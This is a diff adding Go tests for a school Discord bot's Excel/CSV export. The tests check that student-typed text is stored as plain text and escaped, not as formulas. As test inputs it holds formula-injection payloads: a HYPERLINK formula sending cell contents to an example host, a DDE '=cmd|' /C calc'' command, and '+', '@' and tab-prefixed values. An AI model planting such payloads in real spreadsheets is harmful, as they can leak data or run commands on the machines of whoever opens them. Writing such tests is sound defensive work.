@@ -1,0 +1,165 @@
+package discord_test
+
+import (
+	"bytes"
+	"encoding/csv"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/xuri/excelize/v2"
+
+	"verkoopcoach/internal/flow"
+	"verkoopcoach/internal/localdiscord"
+	"verkoopcoach/internal/localdiscord/actors"
+)
+
+// hostile is what a sheet could take for something to run, each for one field.
+var hostile = actors.Values{
+	"naam": `=HYPERLINK("http://voorbeeld.nl/?"&A1;"Klik hier")`, "aanbod": "+1+1\n@SUM(1)", "klanttype": "consument", "prijs": "\t=1+1",
+}
+
+// sheets opens the workbook that came with the message.
+func (s *school) sheets(m *localdiscord.Message) *excelize.File {
+	s.t.Helper()
+	book, err := excelize.OpenReader(strings.NewReader(s.attached(m)))
+	if err != nil {
+		s.t.Fatal(err)
+	}
+	s.t.Cleanup(func() { _ = book.Close() })
+	return book
+}
+
+// cells returns all that stands in the sheet, and fails where any of it is a formula.
+func (s *school) cells(book *excelize.File, sheet string) [][]string {
+	s.t.Helper()
+	rows, err := book.GetRows(sheet)
+	if err != nil {
+		s.t.Fatal(err)
+	}
+	for y, row := range rows {
+		for x := range row {
+			at, err := excelize.CoordinatesToCellName(x+1, y+1)
+			if err != nil {
+				s.t.Fatal(err)
+			}
+			if f, err := book.GetCellFormula(sheet, at); f != "" || err != nil {
+				s.t.Errorf("%s of %s is the formula %q: %v", at, sheet, f, err)
+			}
+		}
+	}
+	return rows
+}
+
+// csv reads the file of that name, as strictly as the standard library does.
+func (s *school) csv(m *localdiscord.Message, name string) [][]string {
+	s.t.Helper()
+	for _, a := range m.Attachments {
+		if a.Filename != name {
+			continue
+		}
+		r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(s.discord.File(a.ID), []byte("\uFEFF"))))
+		r.Comma = ';'
+		all, err := r.ReadAll()
+		if err != nil {
+			s.t.Fatal(err)
+		}
+		return all
+	}
+	s.t.Fatalf("no %s among %q", name, fileNames(m))
+	return nil
+}
+
+func holds(rows [][]string, words ...string) bool {
+	return slices.ContainsFunc(rows, func(row []string) bool {
+		return !slices.ContainsFunc(words, func(w string) bool { return !slices.Contains(row, w) })
+	})
+}
+
+// What students type reaches a teacher's sheet as text, whatever it looks like.
+func TestExportHoldsTextAlone(t *testing.T) {
+	t.Parallel()
+	s := newSchool(t)
+	s.anna.SetNick("=1+2")
+	anna, docent := s.in(s.anna, s.tentas), s.teacherIn("docenten")
+	anna.Slash("start", "naam", `=cmd|' /C calc'!A1`)
+	anna.Submits(anna.Opens(anna.Sees("Beantwoorden"), "Beantwoorden"), hostile)
+	got := docent.Slash("docent export", "vorm", "Excel en CSV")
+	if !got.Ephemeral() {
+		t.Error("the whole channel sees it")
+	}
+	want := []string{"klas-2026-03-02.xlsx", "klas-2026-03-02-overzicht.csv", "klas-2026-03-02-antwoorden.csv", "klas-2026-03-02-bijdragen.csv", "klas-2026-03-02-offertes.csv"}
+	if names := fileNames(got); !slices.Equal(names, want) {
+		t.Fatalf("files %q", names)
+	}
+	book := s.sheets(got)
+	answers := s.cells(book, "Antwoorden")
+	for _, field := range []string{"naam", "aanbod"} {
+		if !holds(answers, hostile[field], `=cmd|' /C calc'!A1`, "=1+2") {
+			t.Errorf("%q does not stand in the workbook: %q", hostile[field], answers)
+		}
+	}
+	for _, sheet := range []string{"Overzicht", "Bijdragen", "Offertes"} {
+		s.cells(book, sheet)
+	}
+	list := s.csv(got, want[2])
+	for _, text := range []string{"'" + hostile["naam"], "'+1+1\n@SUM(1)", `'=cmd|' /C calc'!A1`, "'=1+2"} {
+		if !holds(list, text) {
+			t.Errorf("%q does not stand in the CSV: %q", text, list)
+		}
+	}
+	for _, name := range want[1:] {
+		for _, row := range s.csv(got, name) {
+			for _, field := range row {
+				if field != "" && strings.ContainsAny(field[:1], "=+@\t\r") {
+					t.Errorf("%s has a field %q", name, field)
+				}
+			}
+		}
+	}
+}
+
+// The sheets name who is who, in a class that has a bit of everything.
+func TestExportOfAClass(t *testing.T) {
+	t.Parallel()
+	s := newSchool(t)
+	anna, bram, docent := s.in(s.anna, s.tentas), s.in(s.bram, s.fitzip), s.teacherIn("docenten")
+	if said := docent.Slash("docent export").Text(); !strings.Contains(said, "nog geen team begonnen") {
+		t.Errorf("%s", said)
+	}
+	startTeam(anna)
+	d := loadDossier(t, "goed-b2c.json", flow.Dutch)
+	fills(anna, d, "onderneming")
+	fills(anna, d, "swot")
+	bram.Slash("start", "naam", "Team Fitzip")
+	fills(bram, d, "onderneming")
+	s.anna.SetNick("Anna van Dijk")
+	s.bram.Leave()
+
+	got := docent.Slash("docent export")
+	if names := fileNames(got); !slices.Equal(names, []string{"klas-2026-03-02.xlsx"}) {
+		t.Errorf("files %q", names)
+	}
+	for _, want := range []string{"2 teams", "Van één student vond ik geen naam", "Bewaar het zorgvuldig"} {
+		if !strings.Contains(got.Text(), want) {
+			t.Errorf("no %q in %s", want, got.Text())
+		}
+	}
+	book := s.sheets(got)
+	if rows := s.cells(book, "Overzicht"); len(rows) != 3 || rows[1][0] != "Team Fitzip" || rows[2][0] != "Team Tentas" {
+		t.Errorf("the overview: %q", rows)
+	}
+	people := s.cells(book, "Bijdragen")
+	if !holds(people, "Team Tentas", "Anna van Dijk") || !holds(people, "Team Fitzip", "lid 1") {
+		t.Errorf("%q", people)
+	}
+	if props, err := book.GetDocProps(); err != nil || props.Title != "Klas 2B" {
+		t.Errorf("the workbook is called %q: %v", props.Title, err)
+	}
+	s.discord.ResetRecord() // Discord says that Bram is not there
+	button := s.pressed(docent, "v1:export::0")
+	if names := fileNames(button); !slices.Equal(names, []string{"klas-2026-03-02.xlsx"}) || !button.Ephemeral() {
+		t.Errorf("the button gives %q", names)
+	}
+	s.discord.ResetRecord()
+}
